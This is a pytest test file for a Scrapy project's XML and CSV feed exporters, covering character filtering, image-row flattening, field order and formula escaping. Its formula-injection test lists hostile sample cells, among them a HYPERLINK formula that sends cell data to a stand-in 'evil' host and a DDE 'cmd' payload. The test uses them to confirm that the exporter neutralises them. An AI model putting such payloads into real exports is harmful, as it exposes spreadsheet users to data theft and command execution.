"""XML feeds that every parser reads, and CSV feeds that a spreadsheet opens."""

import csv
import logging
from io import BytesIO, StringIO
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scrapy import Field, Item, Spider
from scrapy.utils.misc import build_from_crawler
from scrapy.utils.test import get_crawler

from timecoverspider.exporters import SpreadsheetCsvItemExporter, ValidXmlItemExporter


def exported(item: dict[str, Any]) -> ElementTree.Element:
    """Return the element of an item in an XML feed."""
    file = BytesIO()
    exporter = ValidXmlItemExporter(file)
    exporter.start_exporting()
    exporter.export_item(item)
    exporter.finish_exporting()
    [element] = ElementTree.fromstring(file.getvalue())
    return element


@pytest.mark.parametrize("char", ["\0", "\x01", "\x0b", "\x1f", "\ufffe", "\uffff"])
def test_character_that_xml_forbids_is_left_out(char: str) -> None:
    element = exported({"title": f"Code{char} Red", "files": [{"url": f"http://a/{char}b"}]})
    assert element.findtext("title") == "Code Red"
    assert element.findtext("files/value/url") == "http://a/b"


@pytest.mark.parametrize(
    "title", ["a\tb\nc", '<b> & "c" \']]>', "\x7f\x85\u2028", "\ud7ff\ue000\ufffd", "♥ \U0001f600"]
)
def test_text_that_xml_allows_is_unchanged(title: str) -> None:
    assert exported({"title": title}).findtext("title") == title


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_feed_of_any_text_can_be_parsed(title: str) -> None:
    assert exported({"title": title}).tag == "item"


FIELDS = ["title", "file_urls", "files"]


def item(*names: str, **fields: Any) -> dict[str, Any]:
    """Return an item with images of these names."""
    files = [{"url": f"http://a/{name}", "path": f"full/{name}.jpg", "checksum": f"c{name}"} for name in names]
    return {"title": "t", "file_urls": [file["url"] for file in files], "files": files} | fields


def csv_bytes(*items: Any, **options: Any) -> bytes:
    file = BytesIO()
    exporter = SpreadsheetCsvItemExporter(file, **options)
    exporter.start_exporting()
    for one in items:
        exporter.export_item(one)
    exporter.finish_exporting()
    return file.getvalue()


def table(*items: Any, **options: Any) -> list[list[str]]:
    """Return the header and the rows of a CSV feed."""
    return list(csv.reader(StringIO(csv_bytes(*items, **options).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("fields", [None, FIELDS])
def test_csv_has_a_row_for_each_image_and_one_for_a_record_without(fields: list[str] | None) -> None:
    assert table(item("1"), item("2", "3", title="two"), item(title="none"), fields_to_export=fields) == [
        ["title", "url", "path", "checksum"],
        ["t", "http://a/1", "full/1.jpg", "c1"],
        ["two", "http://a/2", "full/2.jpg", "c2"],
        ["two", "http://a/3", "full/3.jpg", "c3"],
        ["none", "", "", ""],
    ]


@pytest.mark.parametrize(
    ("fields", "header", "row"),
    [
        (["path", "title"], ["path", "title"], ["full/1.jpg", "t"]),
        (["files"], ["url", "path", "checksum"], ["http://a/1", "full/1.jpg", "c1"]),
        (["file_urls", "title"], ["url", "title"], ["http://a/1", "t"]),
        (["title", "price"], ["title", "price"], ["t", ""]),
        ({"title": "Title", "path": "File"}, ["Title", "File"], ["t", "full/1.jpg"]),
        (
            {"files": "Image", "title": "T"},
            ["Image url", "Image path", "Image checksum", "T"],
            ["http://a/1", "full/1.jpg", "c1", "t"],
        ),
        ({"file_urls": "Image"}, ["Image"], ["http://a/1"]),
    ],
)
def test_csv_has_the_chosen_fields_in_their_order(fields: Any, header: list[str], row: list[str]) -> None:
    assert table(item("1"), fields_to_export=fields) == [header, row]


def test_csv_without_a_column_of_the_images_has_a_row_for_each_record() -> None:
    assert table(item("1", "2"), item("3"), fields_to_export=["title"]) == [["title"], ["t"], ["t"]]


@pytest.mark.parametrize(
    ("fields", "header"),
    [
        (None, ["title", "image_url", "path", "checksum", "url"]),
        ([*FIELDS, "url"], ["title", "image_url", "path", "checksum", "url"]),
        (["url", "image_url"], ["url", "image_url"]),
    ],
)
def test_csv_field_of_the_item_keeps_the_name_of_a_column_of_the_image(fields: Any, header: list[str]) -> None:
    found = table(item("1", url="http://shop/1"), fields_to_export=fields)
    assert found[0] == header
    row = dict(zip(*found, strict=True))
    assert (row["url"], row["image_url"]) == ("http://shop/1", "http://a/1")


def test_csv_column_of_a_field_that_some_items_lack_is_never_filled_from_the_image() -> None:
    header, *rows = table(item("1"), item("2", url="http://shop/2"), fields_to_export=[*FIELDS, "url"])
    assert [row[header.index("url")] for row in rows] == ["", "http://shop/2"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (["a", "b"], "a,b"),  # as in Scrapy
        ([1, {"ä": None}], '[1, {"ä": null}]'),
        ({"a": [True]}, '{"a": [true]}'),
        ([], ""),
        (None, ""),
        (0, "0"),
        (False, "False"),
        ("a\nb", "a\nb"),
    ],
)
def test_csv_cell_of_a_nested_value_is_json(value: Any, cell: str) -> None:
    assert table(item(x=value))[1][-1] == cell


def test_csv_options_of_scrapy_work() -> None:
    assert csv_bytes(item("1", x=["a", "b"]), join_multivalued="|", delimiter=";", include_headers_line=False) == (
        "\ufefft;http://a/1;full/1.jpg;c1;a|b\r\n".encode()
    )
    assert csv_bytes(item(title="Ä"), encoding="latin-1").startswith(b"title,url,path,checksum\r\n\xc4")


def test_csv_begins_with_a_byte_order_mark_only_for_spreadsheets() -> None:
    assert csv_bytes(item(title="Ä")).startswith("\ufefftitle,".encode())
    assert csv_bytes(item(title="Ä"), spreadsheet=False).startswith(b"title,")


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"],
)
def test_csv_text_that_a_spreadsheet_runs_has_an_apostrophe_and_the_log_says_so(
    text: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert table(item(title=text))[1][0] == f"'{text}"
    [warning] = caplog.messages
    assert "formulas: 1." in warning
    assert csv_bytes(item(title=text), spreadsheet=False).count(b"'" + text.encode()) == 0


def test_csv_name_of_a_field_that_a_spreadsheet_runs_has_an_apostrophe() -> None:
    assert table({"=1+1": "x"})[0] == ["'=1+1"]


@pytest.mark.parametrize("value", ["-5.00", "+49 (0)30 123", "-", "- 3 %", -5, "a=b", "'t was", "5-1", "1923-03-03"])
def test_csv_text_that_no_spreadsheet_runs_is_unchanged(value: Any, caplog: pytest.LogCaptureFixture) -> None:
    assert table(item(x=value))[1][-1] == str(value)
    assert not caplog.messages


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_csv_of_any_text_is_read_back(title: str) -> None:
    logging.disable(logging.WARNING)
    try:
        content = csv_bytes(item("1", title=title)).decode("utf-8-sig")
    finally:
        logging.disable(logging.NOTSET)
    _, [cell, *_] = csv.reader(StringIO(content, newline=""))
    assert cell in (title, f"'{title}")


class Cover(Item):
    title = Field(serializer=str.upper)
    file_urls = Field()
    files = Field()


def test_csv_of_items_without_a_data_set_has_their_urls_and_serializers() -> None:
    assert table(Cover(title="t", file_urls=["http://a/1", "http://a/2"])) == [
        ["title", "url", "path", "checksum"],
        ["T", "http://a/1", "", ""],
        ["T", "http://a/2", "", ""],
    ]
    assert table({"title": "t", "n": 1}) == [["title", "n"], ["t", "1"]]


def test_csv_without_chosen_fields_still_warns_of_a_field_that_is_lost(caplog: pytest.LogCaptureFixture) -> None:
    table(item("1"), item("2"))
    assert not caplog.messages
    table(item("1"), item("2", price=3))
    [warning] = caplog.messages
    assert "'price'" in warning


def test_csv_knows_the_fields_that_the_settings_rename() -> None:
    crawler = get_crawler(Spider, {"FILES_URLS_FIELD": "images", "FILES_RESULT_FIELD": "stored"})
    file = BytesIO()
    exporter = build_from_crawler(SpreadsheetCsvItemExporter, crawler, file, fields_to_export=None)
    exporter.export_item({"images": ["u"], "stored": [{"url": "u", "path": "p", "checksum": "c"}]})
    assert file.getvalue().decode("utf-8-sig") == "url,path,checksum\r\nu,p,c\r\n"


def test_csv_of_files_that_are_no_objects_has_empty_cells() -> None:
    assert table(item(files=["x"])) == [["title", "url", "path", "checksum"], ["t", "", "", ""]]
